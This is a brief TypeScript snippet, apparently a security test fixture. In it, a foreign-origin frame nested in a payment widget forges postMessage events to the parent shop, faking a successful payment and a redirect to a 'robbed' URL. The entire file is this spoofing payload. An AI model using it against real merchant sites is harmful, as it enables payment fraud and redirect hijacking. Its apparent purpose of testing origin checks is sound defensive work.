// A page inside Antom's page, of another origin: an advertisement, a bank, whoever got there. It tells the shop around
// both what only Antom may say.

const shop = window.parent.parent
const forge = (message: object): void => shop.postMessage(JSON.stringify(message), '*')

forge({
  code: 'SDK_PAYMENT_SUCCESSFUL',
  result: { paymentStatus: 'SUCCESS', paymentResultCode: 'SUCCESS' },
})
forge({
  context: {
    event: 'onRedirectUrl',
    data: { normalUrl: new URL('robbed', window.location.href).href },
    eventCallbackId: '1',
  },
})
